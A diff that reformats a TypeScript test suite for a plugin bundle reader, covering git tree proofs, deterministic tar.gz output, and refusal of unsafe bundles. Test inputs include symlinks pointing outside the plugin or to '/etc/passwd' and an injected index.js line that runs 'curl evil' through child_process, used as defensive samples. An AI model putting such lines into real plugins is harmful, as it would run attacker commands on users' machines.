@@ -26,7 +26,21 @@ beforeAll(() => {
 afterAll(cleanupTemp);
 
 const git = (cwd: string, ...args: string[]) =>
-  execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main", "-c", "core.autocrlf=false", ...args], { cwd, encoding: "utf8" }).trim();
+  execFileSync(
+    "git",
+    [
+      "-c",
+      "user.name=t",
+      "-c",
+      "user.email=t@example.com",
+      "-c",
+      "init.defaultBranch=main",
+      "-c",
+      "core.autocrlf=false",
+      ...args,
+    ],
+    { cwd, encoding: "utf8" },
+  ).trim();
 
 const LONG = `${"deep/".repeat(22)}file-with-a-long-name.txt`;
 
@@ -61,20 +75,44 @@ describe("git object ids", () => {
     git(repo, "add", "-A");
     git(repo, "commit", "-q", "-m", "x");
     expect(buildTree(sampleFiles()).root).toBe(git(repo, "rev-parse", "HEAD^{tree}"));
-    expect(buildTree(sampleFiles().filter((f) => f.path.startsWith("a/")).map((f) => ({ ...f, path: f.path.slice(2) }))).root).toBe(git(repo, "rev-parse", "HEAD:a"));
+    expect(
+      buildTree(
+        sampleFiles()
+          .filter((f) => f.path.startsWith("a/"))
+          .map((f) => ({ ...f, path: f.path.slice(2) })),
+      ).root,
+    ).toBe(git(repo, "rev-parse", "HEAD:a"));
     const raw = Buffer.from(execFileSync("git", ["cat-file", "commit", "HEAD"], { cwd: repo }));
     expect(objectId("commit", raw)).toBe(git(repo, "rev-parse", "HEAD"));
     const rootRaw = Buffer.from(execFileSync("git", ["cat-file", "tree", "HEAD^{tree}"], { cwd: repo }));
     expect(parseTree(rootRaw).find((e) => e.name === "a")!.sha).toBe(git(repo, "rev-parse", "HEAD:a"));
-    expect(checkProof({ revision: git(repo, "rev-parse", "HEAD"), tree: git(repo, "rev-parse", "HEAD:a"), subdir: "a", commit: raw, pathTrees: [rootRaw] })).toBeUndefined();
-    expect(checkProof({ revision: git(repo, "rev-parse", "HEAD"), tree: git(repo, "rev-parse", "HEAD:docs"), subdir: "a", commit: raw, pathTrees: [rootRaw] })).toMatch(/is tree/);
+    expect(
+      checkProof({
+        revision: git(repo, "rev-parse", "HEAD"),
+        tree: git(repo, "rev-parse", "HEAD:a"),
+        subdir: "a",
+        commit: raw,
+        pathTrees: [rootRaw],
+      }),
+    ).toBeUndefined();
+    expect(
+      checkProof({
+        revision: git(repo, "rev-parse", "HEAD"),
+        tree: git(repo, "rev-parse", "HEAD:docs"),
+        subdir: "a",
+        commit: raw,
+        pathTrees: [rootRaw],
+      }),
+    ).toMatch(/is tree/);
   });
 });
 
 describe("deterministic tar.gz", () => {
   const entries = (): TarEntry[] =>
     sampleFiles().map((f) =>
-      f.mode === "120000" ? { path: `p/${f.path}`, type: "symlink", linkpath: f.data!.toString() } : { path: `p/${f.path}`, type: "file", mode: f.mode === "100755" ? 0o755 : 0o644, data: f.data },
+      f.mode === "120000"
+        ? { path: `p/${f.path}`, type: "symlink", linkpath: f.data!.toString() }
+        : { path: `p/${f.path}`, type: "file", mode: f.mode === "100755" ? 0o755 : 0o644, data: f.data },
     );
 
   it("same entries in any order give the same bytes, with the canonical gzip header", () => {
@@ -87,15 +125,26 @@ describe("deterministic tar.gz", () => {
   it("system tar lists it with fixed owner, time and modes; node-tar reads every entry back", async () => {
     const f = join(dir, "t.tar.gz");
     writeFileSync(f, writeTarGz(entries()));
-    const listing = execFileSync("tar", ["-tvzf", f], { encoding: "utf8", env: { ...process.env, TZ: "UTC", LC_ALL: "C" } });
+    const listing = execFileSync("tar", ["-tvzf", f], {
+      encoding: "utf8",
+      env: { ...process.env, TZ: "UTC", LC_ALL: "C" },
+    });
     expect(listing).toContain("0/0");
     expect(listing).toContain("1970-01-01 00:00");
     expect(listing).toMatch(/-rwxr-xr-x .* p\/bin\/run/);
     expect(listing).toMatch(/lrwxrwxrwx .* p\/alias\.js -> index\.js/);
     expect(listing).toContain(`p/${LONG}`);
     const read = await readTarGz(readFileSync(f), { maxBytes: 1e8, maxEntries: 1000 });
-    const files = read.filter((e) => e.type === "File").map((e) => e.path).sort();
-    expect(files).toEqual(sampleFiles().filter((x) => x.mode !== "120000").map((x) => `p/${x.path}`).sort());
+    const files = read
+      .filter((e) => e.type === "File")
+      .map((e) => e.path)
+      .sort();
+    expect(files).toEqual(
+      sampleFiles()
+        .filter((x) => x.mode !== "120000")
+        .map((x) => `p/${x.path}`)
+        .sort(),
+    );
     // Folders come before their contents.
     const order = read.map((e) => e.path);
     expect(order.indexOf("p/bin/")).toBeLessThan(order.indexOf("p/bin/run"));
@@ -118,7 +167,14 @@ async function integrity(files: GitFile[]): Promise<string> {
   return (await hashTree(join(d, "p"))).integrity;
 }
 
-async function validBundle(mutate: { files?: (f: GitFile[]) => GitFile[]; manifest?: (m: BundleManifest) => void; entries?: (e: TarEntry[]) => TarEntry[]; pack?: (p: string) => string } = {}): Promise<Built> {
+async function validBundle(
+  mutate: {
+    files?: (f: GitFile[]) => GitFile[];
+    manifest?: (m: BundleManifest) => void;
+    entries?: (e: TarEntry[]) => TarEntry[];
+    pack?: (p: string) => string;
+  } = {},
+): Promise<Built> {
   const pluginFiles = sampleFiles().filter((f) => f.path !== LONG);
   const sub = buildTree(pluginFiles);
   const other = buildTree([{ path: "README.md", mode: "100644", data: Buffer.from("readme") }]);
@@ -127,9 +183,16 @@ async function validBundle(mutate: { files?: (f: GitFile[]) => GitFile[]; manife
   const pluginsId = objectId("tree", pluginsTree);
   const readmeBlob = objectId("blob", Buffer.from("readme"));
   void other;
-  const rootTree = Buffer.concat([Buffer.from("100644 README.md\0"), Buffer.from(readmeBlob, "hex"), Buffer.from("40000 plugins\0"), Buffer.from(pluginsId, "hex")]);
+  const rootTree = Buffer.concat([
+    Buffer.from("100644 README.md\0"),
+    Buffer.from(readmeBlob, "hex"),
+    Buffer.from("40000 plugins\0"),
+    Buffer.from(pluginsId, "hex"),
+  ]);
   const rootId = objectId("tree", rootTree);
-  const commit = Buffer.from(`tree ${rootId}\nauthor A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\nrelease\n`);
+  const commit = Buffer.from(
+    `tree ${rootId}\nauthor A <a@x> 1700000000 +0000\ncommitter A <a@x> 1700000000 +0000\n\nrelease\n`,
+  );
   const revision = objectId("commit", commit);
   const files = mutate.files ? mutate.files(pluginFiles.map((f) => ({ ...f }))) : pluginFiles;
   let pack = `name: synthetic\nplugins:\n  - name: demo\n    repo: acme/mono\n    subdir: plugins/demo\n    ref: ${revision}\n`;
@@ -149,7 +212,10 @@ async function validBundle(mutate: { files?: (f: GitFile[]) => GitFile[]; manife
         integrity: await integrity(pluginFiles),
         files: pluginFiles.length,
         bytes: 0,
-        proof: { commit: commit.toString("base64"), trees: [rootTree.toString("base64"), pluginsTree.toString("base64")] },
+        proof: {
+          commit: commit.toString("base64"),
+          trees: [rootTree.toString("base64"), pluginsTree.toString("base64")],
+        },
       },
     ],
   };
@@ -157,7 +223,12 @@ async function validBundle(mutate: { files?: (f: GitFile[]) => GitFile[]; manife
   let entries: TarEntry[] = [
     { path: "hermes-bundle.json", type: "file", data: Buffer.from(serializeManifest(manifest)) },
     { path: "hermes-pack.yaml", type: "file", data: Buffer.from(pack) },
-    ...files.map((f): TarEntry => (f.mode === "120000" ? { path: `plugins/demo/${f.path}`, type: "symlink", linkpath: f.data!.toString() } : { path: `plugins/demo/${f.path}`, type: "file", mode: f.mode === "100755" ? 0o755 : 0o644, data: f.data })),
+    ...files.map(
+      (f): TarEntry =>
+        f.mode === "120000"
+          ? { path: `plugins/demo/${f.path}`, type: "symlink", linkpath: f.data!.toString() }
+          : { path: `plugins/demo/${f.path}`, type: "file", mode: f.mode === "100755" ? 0o755 : 0o644, data: f.data },
+    ),
   ];
   if (mutate.entries) entries = mutate.entries(entries);
   return { bytes: writeTarGz(entries), manifest, entries, pack };
@@ -259,13 +330,19 @@ describe("bundle reader", () => {
       ["../other-plugin/x", /leaves its plugin folder/],
       ["/etc/passwd", /absolute or empty target/],
     ] as const) {
-      const bad = await validBundle({ entries: (e) => [...e, { path: "plugins/demo/escape", type: "symlink", linkpath: link }] });
+      const bad = await validBundle({
+        entries: (e) => [...e, { path: "plugins/demo/escape", type: "symlink", linkpath: link }],
+      });
       const err = await refusal(bad.bytes);
       expect(err.code, link).toBe("E_BUNDLE_UNSAFE_ENTRY");
       expect(err.message, link).toMatch(why);
     }
     const through = await validBundle({
-      entries: (e) => [...e, { path: "plugins/demo/sub", type: "symlink", linkpath: "bin" }, { path: "plugins/demo/sub/x", type: "file", data: Buffer.from("x") }],
+      entries: (e) => [
+        ...e,
+        { path: "plugins/demo/sub", type: "symlink", linkpath: "bin" },
+        { path: "plugins/demo/sub/x", type: "file", data: Buffer.from("x") },
+      ],
     });
     expect((await refusal(through.bytes)).message).toMatch(/goes through the symlink/);
     // A hard link: the type flag of a file header changed to '1' with a link name.
@@ -280,11 +357,20 @@ describe("bundle reader", () => {
   });
 
   it("a file outside the listed plugins, a pack that does not match its hash, a manifest that is not JSON", async () => {
-    const extra = await validBundle({ entries: (e) => [...e, { path: "plugins/stowaway/index.js", type: "file", data: Buffer.from("x") }] });
+    const extra = await validBundle({
+      entries: (e) => [...e, { path: "plugins/stowaway/index.js", type: "file", data: Buffer.from("x") }],
+    });
     expect((await refusal(extra.bytes)).message).toContain("not part of any plugin listed in the manifest");
-    const packChanged = await validBundle({ entries: (e) => e.map((x) => (x.path === "hermes-pack.yaml" ? { ...x, data: Buffer.from(`${x.data!.toString()}# more\n`) } : x)) });
+    const packChanged = await validBundle({
+      entries: (e) =>
+        e.map((x) =>
+          x.path === "hermes-pack.yaml" ? { ...x, data: Buffer.from(`${x.data!.toString()}# more\n`) } : x,
+        ),
+    });
     expect((await refusal(packChanged.bytes)).code).toBe("E_BUNDLE_INTEGRITY");
-    const notJson = await validBundle({ entries: (e) => e.map((x) => (x.path === "hermes-bundle.json" ? { ...x, data: Buffer.from("{nope") } : x)) });
+    const notJson = await validBundle({
+      entries: (e) => e.map((x) => (x.path === "hermes-bundle.json" ? { ...x, data: Buffer.from("{nope") } : x)),
+    });
     expect((await refusal(notJson.bytes)).code).toBe("E_BUNDLE_MANIFEST_INVALID");
     const noManifest = await validBundle({ entries: (e) => e.filter((x) => x.path !== "hermes-bundle.json") });
     expect((await refusal(noManifest.bytes)).code).toBe("E_BUNDLE_MANIFEST_INVALID");
@@ -292,7 +378,12 @@ describe("bundle reader", () => {
 
   it("changed plugin files are refused even when the attacker also fixes the integrity: the git tree no longer matches", async () => {
     const changed = await validBundle({
-      files: (f) => f.map((x) => (x.path === "index.js" ? { ...x, data: Buffer.from("import('child_process').then(c => c.exec('curl evil'))\n") } : x)),
+      files: (f) =>
+        f.map((x) =>
+          x.path === "index.js"
+            ? { ...x, data: Buffer.from("import('child_process').then(c => c.exec('curl evil'))\n") }
+            : x,
+        ),
     });
     const e = await refusal(changed.bytes);
     expect(e.code).toBe("E_BUNDLE_REVISION");
@@ -300,7 +391,9 @@ describe("bundle reader", () => {
   });
 
   it("a consistent tree that is not the claimed revision is refused by the proof", async () => {
-    const otherFiles = sampleFiles().filter((f) => f.path !== LONG).map((f) => (f.path === "index.js" ? { ...f, data: Buffer.from("// other\n") } : f));
+    const otherFiles = sampleFiles()
+      .filter((f) => f.path !== LONG)
+      .map((f) => (f.path === "index.js" ? { ...f, data: Buffer.from("// other\n") } : f));
     const b = await validBundle({
       files: () => otherFiles,
       manifest: (m) => {
@@ -335,15 +428,23 @@ describe("reading a revision out of an installed checkout", () => {
     const plain = join(dir, "plain");
     mkdirSync(plain);
     writeFileSync(join(plain, "plugin.yaml"), "name: plain\n");
-    await expect(readRevisionTree(plain, "a".repeat(40), undefined)).rejects.toMatchObject({ code: "E_BUNDLE_EXPORT_SOURCE", message: expect.stringContaining("not a git checkout") });
+    await expect(readRevisionTree(plain, "a".repeat(40), undefined)).rejects.toMatchObject({
+      code: "E_BUNDLE_EXPORT_SOURCE",
+      message: expect.stringContaining("not a git checkout"),
+    });
     const repo = join(dir, "repo2");
     mkdirSync(repo);
     git(repo, "init", "-q");
     writeFileSync(join(repo, "plugin.yaml"), "name: r\n");
     git(repo, "add", "-A");
     git(repo, "commit", "-q", "-m", "x");
-    await expect(readRevisionTree(repo, "b".repeat(40), undefined)).rejects.toMatchObject({ code: "E_BUNDLE_EXPORT_SOURCE", message: expect.stringContaining("does not hold the recorded commit") });
-    await expect(readRevisionTree(repo, git(repo, "rev-parse", "HEAD"), "no/such")).rejects.toMatchObject({ code: "E_BUNDLE_EXPORT_SOURCE" });
+    await expect(readRevisionTree(repo, "b".repeat(40), undefined)).rejects.toMatchObject({
+      code: "E_BUNDLE_EXPORT_SOURCE",
+      message: expect.stringContaining("does not hold the recorded commit"),
+    });
+    await expect(readRevisionTree(repo, git(repo, "rev-parse", "HEAD"), "no/such")).rejects.toMatchObject({
+      code: "E_BUNDLE_EXPORT_SOURCE",
+    });
     const ok = await readRevisionTree(repo, git(repo, "rev-parse", "HEAD"), undefined);
     expect(ok.tree).toBe(git(repo, "rev-parse", "HEAD^{tree}"));
     expect(ok.files.map((f) => f.path)).toEqual(["plugin.yaml"]);
